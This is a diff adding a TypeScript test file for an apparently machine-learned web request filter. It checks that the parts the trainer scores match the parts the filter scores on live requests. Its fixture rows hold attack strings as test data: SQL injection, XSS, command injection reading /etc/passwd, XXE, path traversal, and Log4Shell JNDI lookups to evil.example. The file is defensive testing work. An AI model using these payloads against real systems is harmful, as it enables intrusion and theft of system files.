@@ -1,0 +1,63 @@
+// Train/serve parity: the parts the trainer scores for a labelled row (Core.parts and
+// Core.featurize, through models/http.ts partRequest) are the parts the filter scores when a
+// client sends that row (toHttpRequest, as Envoy hands it to the filter: pseudo-headers, the
+// replay's own User-Agent and path included). One request model in the core serves both.
+import { beforeAll, describe, expect, it } from "vitest";
+import { type Core, loadCore } from "../support/core";
+import { partRequest, toCoreRequest, toHttpRequest } from "../../models/http";
+
+let core: Core;
+beforeAll(async () => {
+  core = await loadCore();
+  expect(core.configure("")).toBeNull();
+});
+
+const multipart = (fields: Array<[string, string]>, boundary = "XyZ") =>
+  fields.map(([n, v]) => `--${boundary}\r\nContent-Disposition: form-data; name="${n}"\r\n\r\n${v}\r\n`).join("") + `--${boundary}--\r\n`;
+
+// Every body kind, and each kind's look-alikes: what a server parses is what the filter splits.
+const ROWS: Array<{ where: string; text: string }> = [
+  { where: "body:form", text: "user=alice&q=1%27%20OR%20%271%27%3D%271" },
+  { where: "body:form", text: '{"looks":"like json"}' },
+  { where: "body:json", text: '{"a":{"b":["<script>alert(1)</script>",2]},"c":"d e"}' },
+  { where: "body:json", text: "not json at all' OR 1=1" },
+  { where: "body:multipart", text: multipart([["title", "Holiday photos"], ["cmd", ";cat /etc/passwd"]]) },
+  { where: "body:xml", text: '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>' },
+  { where: "body:text", text: "Hello, do you ship to Canada? Thanks!" },
+  { where: "body:text", text: "a=1&b=<svg onload=alert(1)>" },
+  { where: "body:text", text: '{"k":"v w"}' },
+  { where: "body:text", text: "--XyZ\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nb c\r\n--XyZ--\r\n" },
+  { where: "query", text: "q=running+shoes&page=2" },
+  { where: "query", text: "id=1%27%20OR%20%271%27%3D%271" },
+  { where: "path", text: "/files/..%2F..%2Fetc%2Fpasswd" },
+  { where: "header:User-Agent", text: "${jndi:ldap://evil.example/a}" },
+  { where: "header:Referer", text: "https://x.example/?q=<script>alert(1)</script>" },
+  { where: "header:Cookie", text: "session=abc; pref=' UNION SELECT password FROM users--" },
+  { where: "header:X-Api-Version", text: "${jndi:ldap://evil.example/a}" },
+];
+
+const key = (p: { where: string; name: string; text: string; flags: number; scored: boolean }) => JSON.stringify([p.where, p.name, p.text, p.flags, p.scored]);
+
+describe("the trainer's parts are the filter's parts", () => {
+  it.each(ROWS)("$where: $text", ({ where, text }) => {
+    const trained = core.parts(where, text).map(key);
+    const http = toHttpRequest(text, where);
+    const served = core.requestParts(toCoreRequest(http)).map(key);
+    // The replayed request carries a path and a User-Agent of its own; nothing else may differ.
+    const extra = core.requestParts({ head: [[":path", http.path.split("?")[0]], ["user-agent", http.headers["user-agent"]]] }).map(key);
+    const servedOwn = served.filter((k) => !(extra.includes(k) && !trained.includes(k)));
+    expect(servedOwn).toEqual(trained);
+  });
+
+  it("the trainer's windows are the windows of those parts", () => {
+    for (const { where, text } of ROWS) {
+      const wheres = core.featurize(where, text, 16).map((w) => core.description.wheres[w.where]);
+      const scoredParts = core.parts(where, text).filter((p) => p.scored).map((p) => p.where);
+      expect([...new Set(wheres)].sort(), `${where}: ${text}`).toEqual([...new Set(scoredParts)].sort());
+    }
+  });
+
+  it("a text/plain body that reads as a form is a form for both (the mismatch this test was written for)", () => {
+    expect(core.parts("body:text", "a=1&b=<svg onload=alert(1)>").map((p) => p.where)).toEqual(["body:form", "body:form"]);
+  });
+});
